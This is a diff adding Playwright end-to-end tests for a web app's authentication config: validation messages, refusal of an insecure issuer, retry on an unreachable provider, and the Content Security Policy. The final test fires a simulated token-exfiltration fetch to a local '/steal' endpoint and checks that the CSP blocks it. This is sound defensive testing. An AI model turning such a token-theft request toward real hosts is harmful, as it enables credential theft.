@@ -1,0 +1,107 @@
+import { expect, test } from './fixtures';
+import { API, ISSUER } from './helpers/stack';
+
+const VALID = {
+  issuer: ISSUER,
+  clientId: 'demo-spa',
+  scope: 'openid profile offline_access api',
+  apis: [{ origin: API, pathPrefix: '/api' }],
+};
+
+async function serveConfig(
+  page: import('@playwright/test').Page,
+  config: unknown,
+): Promise<string[]> {
+  const console: string[] = [];
+  page.on('console', (message) => console.push(message.text()));
+  await page.route('**/auth.config.json', (route) => route.fulfill({ json: config }));
+  return console;
+}
+
+test('a config with a typo shows a clear message naming the field, and the app does not start', async ({
+  page,
+}) => {
+  const { clientId, ...withoutClientId } = VALID;
+  const console = await serveConfig(page, { ...withoutClientId, clientID: clientId });
+  await page.goto('/dashboard');
+
+  const status = page.locator('#boot-status');
+  await expect(status).toHaveAttribute('role', 'alert');
+  await expect(status).toContainText(
+    'Invalid auth configuration: "clientID" is not a known setting (did you mean "clientId"?)',
+  );
+  await expect(page.locator('app-root')).toBeEmpty();
+  expect(console.join('\n')).toContain('clientID');
+});
+
+test('an http: issuer that is not loopback is refused before any request to it', async ({
+  page,
+}) => {
+  const requests: string[] = [];
+  page.on('request', (request) => requests.push(request.url()));
+  await serveConfig(page, { ...VALID, issuer: 'http://sso.example.com' });
+  await page.goto('/');
+  await expect(page.locator('#boot-status')).toContainText('"issuer" must use https:');
+  expect(requests.filter((url) => url.includes('sso.example.com'))).toEqual([]);
+});
+
+test('an unreachable provider is reported while start-up retries, then named in the final message', async ({
+  page,
+}) => {
+  test.setTimeout(60_000);
+  await serveConfig(page, { ...VALID, issuer: 'http://localhost:9' });
+  await page.goto('/');
+  const status = page.locator('#boot-status');
+  await expect(status).toContainText(
+    'The identity provider at http://localhost:9 is not reachable yet',
+  );
+  await expect(status).toHaveAttribute('role', 'status');
+  await expect(status).toContainText(
+    '"issuer" http://localhost:9 is not reachable (network); is the identity provider running?',
+    {
+      timeout: 30_000,
+    },
+  );
+  await expect(status).toHaveAttribute('role', 'alert');
+  await expect(page.locator('app-root')).toBeEmpty();
+});
+
+test('a provider whose discovery does not match the issuer is refused, naming the issuer', async ({
+  page,
+}) => {
+  await serveConfig(page, { ...VALID, issuer: `${ISSUER}/` });
+  await page.goto('/');
+  await expect(page.locator('#boot-status')).toContainText('"issuer"');
+  await expect(page.locator('app-root')).toBeEmpty();
+});
+
+test('the production build is served with a CSP that lets requests go only to this origin, the provider and the API', async ({
+  page,
+}) => {
+  const violations: string[] = [];
+  page.on(
+    'console',
+    (message) =>
+      message.text().includes('Content Security Policy') && violations.push(message.text()),
+  );
+  const response = await page.goto('/');
+  const csp = response!.headers()['content-security-policy'];
+  expect(csp).toContain(`connect-src 'self' ${ISSUER} ${API}`);
+  expect(csp).toContain("object-src 'none'");
+  expect(
+    await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'),
+  ).toContain("'strict-dynamic'");
+  await expect(
+    page.getByRole('heading', { name: 'Stay signed in, without noticing' }),
+  ).toBeVisible();
+  expect(violations).toEqual([]);
+
+  const exfiltration = await page.evaluate(() =>
+    fetch('http://localhost:9/steal', { method: 'POST', body: 'token' }).then(
+      () => 'sent',
+      () => 'blocked',
+    ),
+  );
+  expect(exfiltration).toBe('blocked');
+  await expect.poll(() => violations.join('\n')).toContain('connect-src');
+});
